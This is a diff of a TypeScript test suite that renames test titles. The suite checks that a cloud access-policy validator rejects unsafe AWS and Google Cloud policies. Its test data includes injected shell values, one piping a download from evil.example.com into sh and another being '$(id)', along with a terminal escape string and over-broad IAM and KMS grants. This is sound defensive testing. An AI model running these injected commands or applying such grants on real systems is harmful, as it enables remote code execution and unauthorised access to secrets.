@@ -20,11 +20,11 @@ const [binding] = gcp.bindings
 const [secret] = aws.secret_policies
 const isTaken = (policy: unknown): boolean => AccessPolicy.safeParse(policy).success
 
-test('what a control plane makes is taken', () => {
+test('accepts what a control plane makes', () => {
   expect([aws, gcp].map(isTaken)).toEqual([true, true])
 })
 
-describe('S7: a policy for Google Cloud is not taken', () => {
+describe('S7: rejects a policy for Google Cloud', () => {
   test.each([
     { project: 'p; curl evil.example.com | sh' },
     { project: '$(id)' },
@@ -39,7 +39,7 @@ describe('S7: a policy for Google Cloud is not taken', () => {
   })
 })
 
-describe('S7: a policy that lets in another than the one it is for is not taken', () => {
+describe('S7: rejects a policy that grants access to anyone else', () => {
   test('on Google Cloud', () => {
     const member = 'serviceAccount:v@villains.iam.gserviceaccount.com'
     expect(isTaken({ ...gcp, bindings: [...gcp.bindings, { ...binding, member }] })).toBe(false)
@@ -59,7 +59,7 @@ describe('S7: a policy that lets in another than the one it is for is not taken'
     expect(isTaken({ ...aws, key_policies: [changed(ofKey, part)] })).toBe(false)
   })
 
-  test('nor one that lets its key decrypt more than that secret', () => {
+  test('or lets its key decrypt more than that secret', () => {
     expect(isTaken({ ...aws, key_policies: [changed(ofKey, {})] })).toBe(true)
     expect(isTaken({ ...aws, key_policies: [changed(ofKey, { Condition: undefined })] })).toBe(false)
     const wider = { 'kms:EncryptionContext:SecretARN': [ofKey?.secret, foreign] }
@@ -69,7 +69,7 @@ describe('S7: a policy that lets in another than the one it is for is not taken'
   })
 })
 
-describe('S7: a policy for AWS is not taken', () => {
+describe('S7: rejects a policy for AWS', () => {
   const statement = aws.identity_policy.Statement[0]
   test.each([
     { Action: '*' },
@@ -79,7 +79,7 @@ describe('S7: a policy for AWS is not taken', () => {
     { Resource: 'arn:aws:secretsmanager:us-east-1:999999999999:secret:*' },
     { Resource: 'arn:aws:s3:::all' },
     { Sid: 'a\u001b[2J' },
-  ])('where the nodes’ role may do %j', (part) => {
+  ])('whose node role may do %j', (part) => {
     expect(
       isTaken({ ...aws, identity_policy: { ...aws.identity_policy, Statement: [{ ...statement, ...part }] } }),
     ).toBe(false)
@@ -92,7 +92,7 @@ describe('S7: a policy for AWS is not taken', () => {
     { StringLike: { 'kms:EncryptionContext:SecretARN': [] } },
     { StringLike: {} },
     { StringNotLike: { 'kms:EncryptionContext:SecretARN': [foreign] } },
-  ])('where the nodes’ role may decrypt under the condition %j', (part) => {
+  ])('whose node role may decrypt under the condition %j', (part) => {
     const decrypt = aws.identity_policy.Statement.find(({ Action }) => Action === 'kms:Decrypt')
     const policy = (condition: object) => ({
       ...aws,
